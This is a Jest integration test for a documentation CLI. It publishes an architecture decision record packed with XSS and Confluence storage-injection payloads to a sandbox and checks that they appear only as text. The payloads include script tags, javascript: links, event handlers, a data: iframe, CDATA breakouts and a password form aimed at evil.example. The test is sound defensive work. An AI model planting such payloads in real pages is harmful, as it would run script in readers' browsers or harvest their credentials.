import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { runCli } from '@docgen/test-support';
import { testSandbox, type TestSandbox } from '../../../packages/publisher/test/helpers.js';

jest.setTimeout(120_000);

/**
 * An ADR written by someone else, carrying what storage format runs in the viewer, through the
 * real CLI (`docgen adr`, then `docgen publish`) into the sandbox over HTTP: the sandbox takes the
 * storage (it refuses XML that is not well-formed, as Confluence does), and the page it serves
 * shows the markup as text, with nothing in it that runs, loads or submits.
 */
const HOSTILE_ADR = [
  '# 1. Use <script>alert(1)</script> ]]> <ac:structured-macro ac:name="html"/>',
  '',
  '- Status: accepted',
  '- Date: 2026-11-28',
  '',
  '## Context',
  '',
  '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(2)</script>]]></ac:plain-text-body></ac:structured-macro>',
  '',
  'See <a href="javascript:alert(3)" onclick="alert(4)">the console</a> and <img src="https://t.example/p.png" onerror="alert(5)">.',
  '',
  '<p style="background:url(javascript:alert(6))">styled</p>',
  '',
  '<iframe src="data:text/html,<script>alert(7)</script>"></iframe>',
  '',
  '<form action="https://evil.example"><input type="password" name="p"></form>',
  '',
  '<svg><script>alert(8)</script></svg> ![pixel](data:image/png;base64,AAAA) <!-- <script>alert(9)</script> -->',
  '',
  '| Option | Note |',
  '| --- | --- |',
  '| <ac:structured-macro ac:name="iframe"/> | `]]> <script>alert(10)</script>` |',
  '',
  ':::panel{bgColor="red;background-image:url(https://t.example/beacon.png)"}',
  'A panel',
  ':::',
  '',
  '## Decision',
  '',
  '```html',
  'end ]]> <script>alert(11)</script>',
  '```',
  '',
].join('\n');

describe('content that carries storage markup, published to the sandbox', () => {
  let sandbox: TestSandbox;
  let work: string;
  beforeAll(async () => {
    sandbox = await testSandbox();
    work = await mkdtemp(join(tmpdir(), 'docgen-injection-'));
    await mkdir(join(work, 'adr'));
    await writeFile(join(work, 'adr', '0001-hostile.md'), HOSTILE_ADR);
  });
  afterAll(async () => {
    await sandbox.close();
    await rm(work, { recursive: true, force: true });
  });

  it('is shown as text: the sandbox takes the storage, and its page runs, loads and submits nothing', async () => {
    const out = join(work, 'out');
    const rendered = await runCli(['adr', '--dir', join(work, 'adr'), '--out', out, '--json'], { cwd: work });
    expect(rendered.code).toBe(0);
    const warnings = JSON.parse(rendered.stdout)
      .warnings.map((w: { message: string }) => w.message)
      .join('\n');
    expect(warnings).toMatch(/link to an unsafe URL \(javascript:alert\(3\)\)/);
    expect(warnings).toMatch(
      /panel parameter bgColor="red;background-image:url\(https:\/\/t\.example\/beacon\.png\)" left out/,
    );

    const published = await runCli(['publish', out, '--json'], {
      cwd: work,
      env: {
        CONFLUENCE_URL: `${sandbox.url}/wiki`,
        CONFLUENCE_USER: 'dev@example.com',
        CONFLUENCE_API_TOKEN: 'sandbox-token',
        CONFLUENCE_SPACE_KEY: 'DEV',
      },
    });
    expect(published.code).toBe(0);
    expect(JSON.parse(published.stdout).counts).toMatchObject({ created: 2, failed: 0 });

    const manifest = JSON.parse(await readFile(join(out, 'manifest.json'), 'utf8')) as {
      pages: Array<{ key: string; title: string }>;
    };
    const adrTitle = manifest.pages.find((page) => page.key === 'adr/1')!.title;
    const found = await sandbox.api<{ results: Array<{ id: string; body: { storage: { value: string } } }> }>(
      'GET',
      `/wiki/rest/api/content?spaceKey=DEV&title=${encodeURIComponent(adrTitle)}&expand=body.storage`,
    );
    const page = found.body.results[0]!;
    const storage = page.body.storage.value;
    // The markup is there as text a reader sees; no macro but the code block and the panel.
    expect(storage).toContain('&lt;ac:structured-macro ac:name="html"&gt;');
    expect(storage).not.toContain('bgColor');
    expect(storage).toContain('<ac:plain-text-body><![CDATA[end ]]]]><![CDATA[> <script>alert(11)</script>]]>');
    expect([...storage.matchAll(/<ac:structured-macro ac:name="([^"]+)"/g)].map((m) => m[1])).toEqual([
      'status',
      'panel',
      'code',
    ]);

    const preview = await fetch(`${sandbox.url}/ui/pages/${page.id}`);
    expect(preview.status).toBe(200);
    const html = await preview.text();
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;'); // the title, as text
    expect(html).toContain('styled');
    expect(html).not.toMatch(/<script|<iframe|<form|<svg|<object|<embed/i);
    // URLs that run or carry content are text only (the iframe's is shown as its link's text).
    expect(html).not.toMatch(/\s(?:href|src|action)="\s*(?:javascript|vbscript|data):/i);
    expect(html).not.toMatch(/\sstyle="[^"]*url\(/i);
    expect(html).not.toMatch(/<[^>]+\son[a-z]+=/i);
  });
});
